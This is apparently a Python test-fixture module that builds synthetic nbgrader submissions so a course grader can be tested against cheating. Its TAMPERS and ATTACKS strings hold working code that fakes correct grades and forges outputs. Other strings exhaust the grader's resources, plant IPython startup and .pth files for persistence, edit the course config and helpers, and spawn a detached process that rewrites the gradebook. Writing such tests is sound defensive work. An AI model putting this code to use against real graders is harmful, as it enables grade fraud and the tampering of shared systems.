"""Synthetic submissions to the class's nbgrader assignments: honest, wrong, tampered and attacking.

Used by tests/e2e/classroom_grading.py (what each kind must score, and that the rest of the class
is graded exactly whatever one submission does) and bench/grading.py (how fast nbgrader grades a
class). Every submission starts from the release nbgrader generated (what a learner fetches) and
changes only what a learner can change: the answer cells, the notebook's JSON (cell order,
metadata, copies of cells), stored outputs, files beside the notebook; a tamper or an attack also
runs whatever a learner's code can run in the kernel before the test cells.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import nbformat

from helpers.classroom import MIME, exercise_of
from helpers.classroom.codec import encode

BEGIN, END = "### BEGIN SOLUTION", "### END SOLUTION"
ASSIGNMENT = re.compile(r"^(?P<name>[A-Za-z_]\w*) = \.\.\.$", re.M)
DEFINITION = re.compile(r"^def (?P<name>[A-Za-z_]\w*)\(", re.M)
MARKER = "backprop-attack-marker"  # in the command line of every process an attack leaves behind

# Code a learner might put in an answer cell to fake the grade; each runs before any test cell.
TAMPERS = {
    # `check`, helpers.check and helpers.checking.check (and demo, which the test cell shows) say yes
    "always_yes_check": '''\
import helpers, helpers.checking
from helpers.checking.feedback import Feedback
def check(exercise_id, answer):
    return Feedback(str(exercise_id), "correct", "correct.", "correct")
helpers.check = helpers.checking.check = helpers.checking.demo = check
''',
    # the comparison itself is monkeypatched to call everything correct
    "patched_comparison": '''\
import helpers.checking, helpers.checking.numeric, helpers.checking.symbolic
helpers.checking.compare_numeric = helpers.checking.numeric.compare_numeric = lambda *a, **k: ("correct", "correct", "correct.")
helpers.checking.compare_symbolic = helpers.checking.symbolic.compare_symbolic = lambda *a, **k: ("correct", "correct", "correct.")
''',
    # errors are silenced: no traceback, no stderr, so a failing test cell would show nothing
    "silenced_errors": '''\
import sys, io
get_ipython().showtraceback = lambda *a, **k: None
get_ipython().showsyntaxerror = lambda *a, **k: None
sys.stderr = io.StringIO()
''',
    # the test cell's emitter is replaced by one that hands the grader the reference answer
    "forged_emitter": '''\
import helpers.classroom, helpers.exercises
from IPython.display import display as _display
from helpers.classroom.codec import MIME as _MIME, encode as _encode
def _forged(exercise_id, answer):
    try:
        answer = helpers.exercises.expected(exercise_id)
    except Exception:
        pass
    _display({"text/plain": "correct.", _MIME: _encode(exercise_id, answer)}, raw=True)
helpers.classroom.graded = _forged
''',
}

# The red team's attacks on the grader itself (issue 20): code run in the learner's kernel.
# {paths} are filled in by attack_code(): the grader's files, which the kernel must not reach.
ATTACKS = {
    # every test cell hands the grader a power tower: 10^12^10^12^10^12 takes C arithmetic forever
    "power_tower": '''\
import helpers.classroom
from IPython.display import display as _display
from helpers.classroom.codec import MIME as _MIME
_TOWER = "Pow(Integer(1000000000000), Pow(Integer(1000000000000), Pow(Integer(1000000000000), Integer(1000000000000))))"
def _tower(exercise_id, answer):
    _display({"text/plain": "tower", _MIME: {"v": 1, "exercise": exercise_id, "kind": "symbolic", "value": _TOWER}}, raw=True)
helpers.classroom.graded = _tower
''',
    # every test cell hands over Max over thousands of symbols (hours of pairwise comparisons)
    "max_of_symbols": '''\
import helpers.classroom
from IPython.display import display as _display
from helpers.classroom.codec import MIME as _MIME
_MAX = "Max(" + ", ".join(f"Symbol('x{i}')" for i in range(4000)) + ")"
def _max(exercise_id, answer):
    _display({"text/plain": "max", _MIME: {"v": 1, "exercise": exercise_id, "kind": "symbolic", "value": _MAX}}, raw=True)
helpers.classroom.graded = _max
''',
    # 1 GiB printed, in pieces (the grader used to keep every byte of it in memory)
    "gib_print": '''\
_line = "x" * (1 << 20)
for _ in range(1024):
    print(_line)
''',
    # one string of 1 GiB in one print (one enormous message)
    "gib_string": '''\
try:
    print("y" * (1 << 30))
except MemoryError:
    pass
''',
    # a process that outlives the notebook and then writes the attacker full marks into the gradebook
    "background_process": '''\
import subprocess, sys
_code = """
import sqlite3, time
time.sleep(20)
db = sqlite3.connect({gradebook!r})
db.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
db.commit()
"""
subprocess.Popen([sys.executable, "-c", _code, "{marker}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''',
    # a startup file in HOME (the learner's own, and the grader's), run by every later kernel
    "home_startup": '''\
import os, pathlib
_payload = "import helpers.classroom\\nhelpers.classroom.graded = lambda *a, **k: print('forged')\\n"
for _home in (os.path.expanduser("~"), {grader_home!r}):
    try:
        _startup = pathlib.Path(_home) / ".ipython" / "profile_default" / "startup"
        _startup.mkdir(parents=True, exist_ok=True)
        (_startup / "00-backprop-attack.py").write_text(_payload)
    except OSError:
        pass
''',
    # a payload written into the course's helpers/: every later learner's 1.1 "correct" whatever they give
    "write_helpers": '''\
import pathlib, helpers
_target = pathlib.Path(helpers.__file__).parent / "exercises" / "nb01.py"
try:
    with open(_target, "a") as _f:
        _f.write("\\nimport helpers.checking as _c\\n_c._check = lambda *a, **k: _c.Feedback('1.1', 'correct', 'correct.', 'correct')\\n")
except OSError:
    pass
''',
    # the course's nbgrader_config.py, edited to switch the grading pipeline off
    "write_config": '''\
try:
    with open({config!r}, "a") as _f:
        _f.write("\\nc.Autograde.autograde_preprocessors = []\\n")
except OSError:
    pass
''',
    # a .pth file in site-packages: Python runs it at the start of every later process
    "pth_file": '''\
import site, pathlib
for _folder in site.getsitepackages() + [site.getusersitepackages()]:
    try:
        pathlib.Path(_folder).mkdir(parents=True, exist_ok=True)
        (pathlib.Path(_folder) / "backprop-attack.pth").write_text("import os; os.environ['BACKPROP_GRADING'] = '0'\\n")
    except OSError:
        pass
''',
}


def attack_code(name, *, gradebook="", grader_home="", config=""):
    """An attack's code, aimed at the grader's real files."""
    return ATTACKS[name].replace("{marker}", MARKER).replace("{gradebook!r}", repr(str(gradebook))).replace(
        "{grader_home!r}", repr(str(grader_home))).replace("{config!r}", repr(str(config)))


def answers(source_nb):
    """{exercise id: (name, the answer cell as a learner who pastes the reference writes it)}."""
    found = {}
    for cell in source_nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id", "")
        if grade_id.endswith("_answer"):
            exercise_id = exercise_of(grade_id.replace("_answer", "_test"))
            lines = [line for line in cell.source.splitlines() if line not in (BEGIN, END)]
            match = ASSIGNMENT.search(cell.source) or DEFINITION.search(cell.source)
            found[exercise_id] = (match["name"], "\n".join(lines))
    return found


def _answer_cells(nb):
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id", "")
        if grade_id.endswith("_answer"):
            yield exercise_of(grade_id.replace("_answer", "_test")), cell


def submission(release_nb, source_nb, right=(), wrong=(), tamper=None, forge_outputs=False, edit_tests=False,
               code=None):
    """A learner's notebook: `right` answered with the reference, `wrong` with a wrong value (or a
    function returning one), the rest left as released; optionally with a tamper (or any `code`)
    prelude in the first answer cell, stored outputs forged to look fully correct, or the locked
    test cells edited."""
    nb = nbformat.from_dict(json.loads(json.dumps(release_nb)))  # a deep copy
    reference = answers(source_nb)
    prelude = (TAMPERS[tamper] if tamper else "") + (code or "")
    first = True
    for cell in nb.cells:
        grading = cell.metadata.get("nbgrader", {})
        grade_id = grading.get("grade_id", "")
        if grade_id.endswith("_answer"):
            exercise_id = exercise_of(grade_id.replace("_answer", "_test"))
            name, full = reference[exercise_id]
            if exercise_id in right:
                cell.source = full
            elif exercise_id in wrong:
                cell.source = cell.source.replace(f"{name} = ...", f"{name} = 0.123456", 1) \
                    if f"{name} = ..." in cell.source else cell.source.replace(
                        f'check("{exercise_id}"', f'{name} = lambda *args: 0.123456\ncheck("{exercise_id}"', 1)
            if prelude and first:
                cell.source = prelude + cell.source
            first = False
        elif grading.get("grade") and edit_tests:
            cell.source = 'print("✔ correct.")'
        if forge_outputs and cell.cell_type == "code" and exercise_of(grade_id):
            exercise_id = exercise_of(grade_id)
            from helpers import exercises

            cell.execution_count = 1
            value = exercises.expected(exercise_id)
            document = encode(exercise_id, value) if exercises.get(exercise_id).kind == "value" else \
                {"v": 1, "exercise": exercise_id, "kind": "function", "seed": "0" * 32, "value": []}
            cell.outputs = [nbformat.v4.new_output("display_data", data={
                "text/plain": f"✔ Exercise {exercise_id}: correct.", MIME: document})]
    return nb


# --------------------------------------------------------------------------- the notebook's JSON

def flags_off(nb):
    """Every answer cell made a graded cell that is not an answer (the 06 attack): a test that
    raises nothing would score its points, the stub untouched."""
    for _, cell in _answer_cells(nb):
        cell.metadata.nbgrader.update({"solution": False, "grade": True, "locked": False, "points": 10})
    return nb


def test_cells_last(nb):
    """The locked test cells moved to the end, after every other cell."""
    tests = [c for c in nb.cells if exercise_of(c.metadata.get("nbgrader", {}).get("grade_id", ""))]
    nb.cells = [c for c in nb.cells if c not in tests] + tests
    return nb


def duplicated_test(nb, exercise_id):
    """A copy of one test cell right after it (copy and paste)."""
    for index, cell in enumerate(nb.cells):
        if exercise_of(cell.metadata.get("nbgrader", {}).get("grade_id", "")) == exercise_id:
            copy = nbformat.from_dict(json.loads(json.dumps(cell)))
            copy["id"] = f"{cell.get('id', 'copy')}-copy"
            nb.cells.insert(index + 1, copy)
            return nb
    raise KeyError(exercise_id)


def other_schema(nb, version=4):
    """Another nbgrader schema_version on a locked cell and on an answer cell, and metadata nbgrader does not know."""
    locked = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("locked"))
    locked.metadata.nbgrader["schema_version"] = version
    _, answer = next(_answer_cells(nb))
    answer.metadata.nbgrader["schema_version"] = version
    answer.metadata.nbgrader["made_up"] = True
    nb.cells.append(nbformat.v4.new_code_cell("x = 1", metadata={"nbgrader": {"grade_id": "not_in_the_gradebook",
                                                                               "grade": True, "points": 50}}))
    return nb


def forged_progress(exercise_ids):
    """A progress file that claims every exercise correct."""
    return json.dumps({"version": 2, "exercises": {i: {"status": "correct", "hints": 0} for i in exercise_ids}})


def write(course, assignment, student, nb, extra_files=None):
    """Put a submission where `nbgrader collect` would: submitted/<student>/<assignment>/."""
    folder = Path(course) / "submitted" / student / assignment
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, folder / f"{assignment}.ipynb")
    for name, text in (extra_files or {}).items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder
